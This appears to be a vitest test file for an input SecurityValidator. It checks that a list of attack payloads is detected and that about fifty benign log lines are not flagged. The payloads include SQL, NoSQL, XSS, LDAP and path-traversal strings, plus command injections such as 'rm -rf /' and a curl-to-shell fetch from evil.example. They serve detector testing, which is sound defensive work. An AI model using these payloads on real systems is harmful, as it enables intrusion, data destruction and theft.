import { describe, expect, it } from 'vitest';
import { SecurityValidator } from '../../src/security/security-validator.js';
import { THREAT_PATTERNS, type ThreatSeverity, type ThreatType } from '../../src/security/threat-patterns.js';
import { cpuTime } from '../helpers.js';

/** [payload, type, worst severity expected] */
const ATTACKS: readonly [string, ThreatType, ThreatSeverity][] = [
  ["' OR 1=1 --", 'sql_injection', 'critical'],
  ["admin' or 'a'='a", 'sql_injection', 'critical'],
  ["x' AND ''='", 'sql_injection', 'critical'],
  ['id=5 or 2=2', 'sql_injection', 'high'],
  ['1 UNION ALL SELECT username, password FROM users', 'sql_injection', 'high'],
  ["1'; DROP TABLE users; --", 'sql_injection', 'critical'],
  ["name'); DELETE FROM accounts", 'sql_injection', 'high'],
  ["admin'--", 'sql_injection', 'medium'],
  ["1' AND SLEEP(5)", 'sql_injection', 'high'],
  ["'; WAITFOR DELAY '0:0:5'", 'sql_injection', 'high'],
  ["1; EXEC xp_cmdshell 'dir'", 'sql_injection', 'critical'],
  ['SELECT table_name FROM information_schema.tables', 'sql_injection', 'medium'],
  ['{"$ne": null}', 'nosql_injection', 'high'],
  ['username[$ne]=admin&password[$gt]=', 'nosql_injection', 'high'],
  ['{"$where": "sleep(5000)"}', 'nosql_injection', 'critical'],
  ['<script>alert(1)</script>', 'xss', 'high'],
  ['<img src=x onerror=alert(1)>', 'xss', 'high'],
  ['<a href="javascript:alert(1)">x</a>', 'xss', 'high'],
  ['<iframe src=//evil.example>', 'xss', 'medium'],
  ['"><svg/onload=alert(document.cookie)>', 'xss', 'high'],
  ['../../etc/passwd', 'path_traversal', 'critical'],
  ['..\\..\\windows\\win.ini', 'path_traversal', 'critical'],
  ['/static/../../../app/config.json', 'path_traversal', 'high'],
  ['/files/%2e%2e%2f%2e%2e%2fsecret', 'path_traversal', 'high'],
  ['/download?file=report.pdf%00.png', 'path_traversal', 'medium'],
  ['; rm -rf /', 'command_injection', 'critical'],
  ['x && rm -f /tmp/a', 'command_injection', 'critical'],
  ['curl http://evil.example/x.sh | sh', 'command_injection', 'critical'],
  ['host=example.com; cat /etc/passwd', 'command_injection', 'high'],
  ['name=$(whoami)', 'command_injection', 'high'],
  ['file=`id`', 'command_injection', 'high'],
  ['*)(uid=*))(|(uid=*', 'ldap_injection', 'high'],
  ['admin)(|(password=*))', 'ldap_injection', 'high'],
  ['(cn=*)', 'ldap_injection', 'medium'],
];

/** Ordinary log messages: none of them may be flagged. */
const BENIGN: readonly string[] = [
  'User selected the Pro plan',
  'Please select a file to upload',
  'Dropped 3 stale connections from the pool',
  'Drop-off scheduled for Tuesday',
  'Update available: v2.3.1',
  'Updated 42 rows in 12 ms',
  'Cache hit or miss ratio is 0.93',
  "Don't retry; it's fine",
  "O'Reilly or O'Brien signed in",
  "The user's session expired or was revoked",
  "It's either this or that, isn't it?",
  'GET /api/v1/users?page=2&limit=50 200 12ms',
  'POST /api/v1/orders 201',
  'Email sent to alice@example.com',
  'Redirecting to https://example.com/search?q=select+drop&sort=asc&page=1',
  'Fetched https://cdn.example.com/assets/app.js?v=1.2.3',
  'Price is $5 and tax is $0.40',
  'Total: $1,234.56 (incl. VAT)',
  'Log file /var/log/app/app.log rotated',
  'Loaded config from ./config/app.json',
  'Running npm install && npm test',
  'Build finished; 3 warnings',
  'Items: 1; 2; 3',
  'x < 5 and y > 3',
  'Temperature <30 or >40 degrees',
  'Use <b>bold</b> for emphasis',
  'The union of the two sets is empty',
  'Deleted from cart: 2 items',
  'Insert coin; update score',
  "He said 'hello'; then left",
  'Order #1234 (express) shipped',
  'Retry in 5s (attempt 2/3)',
  'Value = 10 or more',
  'key=value pairs parsed: a=1, b=2',
  'Where are the select options?',
  'Selected rows: 10 of 200',
  "Can't update the user's profile right now",
  'Tom & Jerry episode 12',
  'R&D budget approved',
  'Run `npm run build` first',
  'Path C:\\Users\\bob\\Documents\\report.docx saved',
  'Connection from 10.0.0.5:51234 closed',
  'Query took 1.5s (SELECT on users)',
  'Release notes: drop support for Node 18, update deps',
  'Comparing a==b || c!=d in the rule engine',
  'JavaScript bundle size: 120 kB',
  'Sleep mode enabled for 5 minutes',
  'Matched 3 filters (status=active)',
  'wildcard search (*) returned 12 hits',
  'Document saved; cookie consent given',
];

describe('SecurityValidator.validateInput', () => {
  const v = new SecurityValidator();

  for (const [payload, type, severity] of ATTACKS) {
    it(`detects ${type} (${severity}) in ${JSON.stringify(payload)}`, () => {
      const { threats } = v.validateInput(payload);
      const ofType = threats.filter((t) => t.type === type);
      expect(ofType.length, JSON.stringify(threats)).toBeGreaterThan(0);
      const order: ThreatSeverity[] = ['critical', 'high', 'medium', 'low'];
      const worst = order.find((s) => ofType.some((t) => t.severity === s));
      expect(worst).toBe(severity);
      for (const t of threats) expect(THREAT_PATTERNS.map((p) => p.name)).toContain(t.pattern);
    });
  }

  it(`the benign list (${BENIGN.length} sentences) is long enough to mean something`, () => {
    expect(BENIGN.length).toBeGreaterThanOrEqual(40);
  });

  for (const text of BENIGN) {
    it(`does not flag ${JSON.stringify(text)}`, () => {
      expect(v.validateInput(text).threats).toEqual([]);
      expect(v.isSafe(text)).toBe(true);
    });
  }

  it('every signature is reached by at least one attack above (none is dead or hidden by the pre-check)', () => {
    const hit = new Set(ATTACKS.flatMap(([p]) => v.validateInput(p).threats.map((t) => t.pattern)));
    const missing = THREAT_PATTERNS.map((p) => p.name).filter((n) => !hit.has(n));
    expect(missing).toEqual([]);
  });

  it('examines at most maxLength characters of a text', () => {
    const small = new SecurityValidator({ maxLength: 100 });
    const late = `${'a'.repeat(200)}<script>`;
    expect(small.validateInput(late).threats).toEqual([]);
    expect(v.validateInput(late).threats.length).toBeGreaterThan(0);
  });

  it('a 10 MB text is answered in bounded time', () => {
    const { ms } = cpuTime(() => v.validateInput(`${"' or ".repeat(2_000_000)}`));
    expect(ms).toBeLessThan(500);
  });
});
